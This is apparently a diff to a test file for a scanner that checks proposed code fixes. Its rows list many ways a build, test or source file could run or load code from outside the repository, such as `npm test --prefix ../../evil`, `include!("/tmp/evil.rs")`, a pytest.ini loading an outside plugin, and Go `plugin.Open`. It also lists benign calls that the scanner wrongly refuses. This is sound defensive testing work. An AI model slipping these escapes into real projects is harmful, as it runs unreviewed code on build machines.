+  SYSTEM('cd /tmp/evil && npm test'),
+  SYSTEM('cd ~/evil && cargo run'),
+  SYSTEM('make -C /tmp/x'),
+  SYSTEM('make -f /tmp/x/Makefile'),
+  SYSTEM('mvn -s /tmp/settings.xml test'),
+  SYSTEM('./gradlew --init-script /tmp/x.gradle test'),
+  SYSTEM('docker compose -f /tmp/x.yml up'),
+  SYSTEM('cargo build -Z unstable-options -C /tmp/x'),
+  ['src/check.py', "import subprocess\nsubprocess.run('npm test', shell=True, cwd='/tmp/evil')"],
+  ['src/check.go', 'cmd := exec.Command("npm", "test")\ncmd.Dir = "/tmp/evil"\ncmd.Run()'],
+  // Code or configuration loaded from outside the repository by the project's own build or tests.
+  ['src/lib.rs', '#[path = "/tmp/evil.rs"]\nmod evil;'],
+  ['src/lib.rs', 'include!("/tmp/evil.rs");'],
+  ['src/lib.rs', 'include!(concat!(env!("HOME"), "/evil.rs"));'],
+  ['src/x.c', '#include "/tmp/evil.h"'],
+  ['src/check.py', "import sys\nsys.path.insert(0, '/tmp/evil')\nimport evil"],
+  ['src/check.js', "require('/tmp/evil.js');"],
+  ['src/check.js', "require(require('os').homedir() + '/evil');"],
+  ['src/check.mjs', "await import('/tmp/evil.mjs');"],
+  ['src/check.rb', "require '/tmp/evil'"],
+  ['src/check.rb', "load File.expand_path('~/evil.rb')"],
+  // pytest reads tests/pytest.ini (or pytest.toml, pytest 9) first when run as `pytest tests`: a plugin loaded from outside.
+  ['tests/pytest.ini', '[pytest]\npythonpath = /tmp/evil\naddopts = -p evil'],
+  ['tests/pytest.toml', '[pytest]\naddopts = ["-p", "evil"]'],
+  // More per manager: `..` escapes, the runner's and the workspace's variables, `~`, go's -C to the parent (the
+  // workspace's other checkouts), poetry's -P, pnpm's -C after the verb, pip's --python (runs that interpreter).
+  SYSTEM('npm test --prefix ../../evil'),
+  SYSTEM('npm test --prefix $RUNNER_TEMP/evil'),
+  SYSTEM('npm run build --prefix ~/evil'),
+  SYSTEM('go run ../evil'),
+  SYSTEM('go -C .. test ./...'),
+  SYSTEM('go -C $HOME/evil run .'),
+  SYSTEM('go vet -modfile=../x/go.mod ./...'),
+  SYSTEM('go run -modfile=$HOME/go.mod .'),
+  SYSTEM('poetry run -P /tmp/x pytest'),
+  SYSTEM('poetry check -P ../x'),
+  SYSTEM('cargo test --manifest-path=$GITHUB_WORKSPACE/../x/Cargo.toml'),
+  SYSTEM('pnpm test -C /tmp/evil'),
+  SYSTEM('yarn test --cwd ../evil'),
+  LIST("'yarn', 'test', '--cwd', '/tmp/evil'"),
+  SYSTEM('pip list --python /tmp/evil/python'),
+  SYSTEM('pip check --python ../x/python'),
+  SYSTEM('pre-commit run --config /tmp/x.yaml'),
+  SYSTEM('tox -c /tmp/tox.ini'),
+  SYSTEM('nox --noxfile /tmp/noxfile.py'),
+  SYSTEM('julia --project=/tmp/x -e "using Pkg; Pkg.instantiate()"'),
+  SYSTEM('poetry run --directory=/tmp/x pytest'),
+  ['src/plugin.go', 'p, _ := plugin.Open("/tmp/x.so")'],
+];
+
+describeFindings('attack-48', [
+  ['E0 escaped separator before the program', ESCAPED_SEPARATOR_BEFORE_THE_PROGRAM],
+  ['E1 escaped setting names', ESCAPED_SETTING_NAMES],
+  ['R reading reach', READING_REACH],
+  ['S program computed', PROGRAM_COMPUTED],
+  ['T decoded and run', DECODED_AND_RUN],
+  ['U modules from a host', MODULES_FROM_A_HOST],
+  ['A spellings', SPELLINGS],
+  ['B process calls not read', BACKTICK_CALLS],
+  ['C deno remote modules', DENO_REMOTE],
+  ['D other runners', OTHER_RUNNERS],
+  ['E go flag spellings', GO_FLAG_SPELLINGS],
+  ['F dependencies in source', DEPENDENCIES_IN_SOURCE],
+  ['H environment spellings', ENVIRONMENT_SPELLINGS],
+  ['I loader environment', LOADER_ENVIRONMENT],
+  ['J git configuration', GIT_CONFIGURATION],
+  ['K deno command object', DENO_COMMAND_OBJECT],
+  ['L pip in process', PIP_IN_PROCESS],
+  ['M pnpm settings in command strings', PNPM_SETTINGS_IN_COMMAND_STRINGS],
+  ['N windows', WINDOWS],
+  ['P other managers not listed', OTHER_MANAGERS_NOT_LISTED],
+  ['O doctests configure', DOCTESTS_CONFIGURE],
+  // Closed in session 45 (test/attack/patch-48g-outside.test.ts: the rule, its reasons and what stays accepted).
+  ['G outside the repository', closedRows(OUTSIDE_THE_REPOSITORY)],
+]);
+
+/**
+ * False refusals (lower priority): ordinary read-only or build calls a fix's tooling code makes, refused because their
+ * verb is not on the manager's list. None fetches or runs code a build would not: `go list`/`go fmt`, `cargo metadata`
+ * (the usual way Rust tooling reads a workspace), `cargo tree`, `cargo doc`/`cargo bench` (as `cargo build`/`test`),
+ * `pnpm exec <local bin>` (never fetches, unlike dlx), pnpm's script shorthand (`pnpm lint`, `pnpm build`); NODE_OPTIONS
+ * with only a heap size, an allowed verb given `env` with CI=true, cosmetic settings of a manager's family. Open:
+ * `it.fails` asserts the acceptance.
+ */
+describe('attack-48 false refusals', () => {
+  // Fixed in session 45 (go list/fmt, cargo metadata/tree/doc/bench, pnpm exec/lint/build on their managers' lists).
+  it.each([
+    ['src/check.py', "import os\nos.system('go list ./...')"],
+    ['src/tool.go', 'out, err := exec.Command("go", "list", "-m", "-json", "all").Output()'],
+    ['src/check.py', "import os\nos.system('go fmt ./...')"],
+    ['src/check.py', "import subprocess\nsubprocess.run(['cargo', 'metadata', '--format-version', '1'], check=True)"],
+    ['src/check.py', "import os\nos.system('cargo tree')"],
+    ['src/check.py', "import os\nos.system('cargo doc --no-deps')"],
+    ['src/check.py', "import os\nos.system('cargo bench')"],
+    ['src/check.py', "import subprocess\nsubprocess.run(['pnpm', 'exec', 'tsc', '--noEmit'], check=True)"],
+    ['src/check.py', "import os\nos.system('pnpm lint')"],
+  ] as const)('accepts, in %s: %s', (path, text) => expectAccepted(path, text));
+  it.fails.each([
+    ['src/xtask.rs', 'let out = Command::new("cargo").args(["metadata", "--format-version", "1"]).output()?;'],
+    // The commonest CI fix for "JavaScript heap out of memory", set for the builds a script starts (a heap size loads nothing).
+    ['src/x.js', "process.env.NODE_OPTIONS = '--max-old-space-size=4096';"],
+    ['src/x.py', "import os\nos.environ['NODE_OPTIONS'] = '--max-old-space-size=4096'"],
+    // An allowed verb run with the environment plus CI=true (any `env` refuses the call).
+    ['src/x.py', "import subprocess, os\nsubprocess.run(['npm', 'run', 'build'], check=True, env={**os.environ, 'CI': 'true'})"],
+    ['src/x.js', "spawnSync('npm', ['test'], { stdio: 'inherit', env: { ...process.env, CI: 'true' } })"],
+    // Cosmetic settings refused by family.
+    ['src/x.rs', 'std::env::set_var("CARGO_TERM_COLOR", "always");'],
+    ['src/x.py', "import os\nos.environ['PIP_DISABLE_PIP_VERSION_CHECK'] = '1'"],
+  ] as const)('accepts, in %s: %s', (path, text) => expectAccepted(path, text));
+});
